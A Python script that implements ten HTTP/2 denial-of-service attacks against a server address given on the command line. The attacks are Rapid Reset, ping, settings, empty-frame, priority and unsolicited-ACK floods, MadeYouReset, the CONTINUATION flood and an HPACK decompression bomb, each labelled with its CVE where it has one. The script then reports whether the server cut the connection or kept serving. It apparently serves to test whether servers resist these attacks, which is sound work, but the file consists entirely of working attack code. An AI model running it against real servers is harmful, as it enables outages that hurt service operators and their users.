"""Does to a server what costs the client little and the server much, until it is cut off.

    http2_abuse.py ADDRESS KIND

Prints the code of the GOAWAY that it got, or `closed`, or `served`: nothing stopped it.
"""

import struct
import sys

from http2_wire import *


def rapid_reset(c):
    """CVE-2023-44487."""
    block = c.block(c.fields(path="/slow"))
    for i in range(2000):
        stream = 2 * i + 1
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block),
               frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
        block = c.block(c.fields(path="/slow"))


def pings(c):
    """CVE-2019-9512: answers are not read."""
    c.send(frame(PING, 0, 0, bytes(8)) * 200_000)


def settings(c):
    """CVE-2019-9515."""
    c.send(frame(SETTINGS, 0, 0) * 200_000)


def large_settings(c):
    """One frame of thousands."""
    c.frame(SETTINGS, 0, 0, setting(*[(MAX_CONCURRENT_STREAMS, 100)] * 2000))


def empty_frames(c):
    """CVE-2019-9518."""
    c.request(1, end=False, method="POST", path="/slow")
    c.send(frame(DATA, 0, 1) * 100_000)


def priorities(c):
    c.send(frame(PRIORITY, 0, 1, bytes([0, 0, 0, 0, 9])) * 100_000)


def acknowledgements(c):
    """Of PINGs that nobody has sent."""
    c.send(frame(PING, ACK, 0, bytes(8)) * 100_000)


def made_you_reset(c):
    """CVE-2025-8671: each request makes the server reset it."""
    for i in range(2000):
        stream = 2 * i + 1
        if i % 32 == 0:
            # No more at once than are let in.
            try:
                c.expect_alive()
            except Failure:
                return
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, c.block(c.fields(path="/slow"))),
               frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)))


def continuations(c):
    """CVE-2024-27316: a head without an end."""
    c.frame(HEADERS, END_STREAM, 1, c.block(c.fields()))
    c.send(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 10_000)


def bomb(c):
    """CVE-2016-1544 and others: few bytes that unpack to many."""
    block = c.block(c.fields()) + b"\x40" + string("x-large") + string(b"x" * 120) + b"\xbe" * 15_000
    c.frame(HEADERS, END_HEADERS | END_STREAM, 1, block)


def main():
    kinds = {f.__name__: f for f in [rapid_reset, pings, settings, large_settings, empty_frames,
                                     priorities, continuations, bomb, acknowledgements,
                                     made_you_reset]}
    c = Connection(sys.argv[1])
    kinds[sys.argv[2].replace("-", "_")](c)
    c.frame(PING, 0, 0, b"the end!")
    said = "closed"
    try:
        while (found := c.read()) is not None:
            if found.kind == PING and found.payload == b"the end!":
                said = "served"
                break
    except OSError:
        pass
    for found in c.log:
        if found.kind == GOAWAY and found.code != NO_ERROR:
            said = str(found.code)
    print(said)


if __name__ == "__main__":
    main()
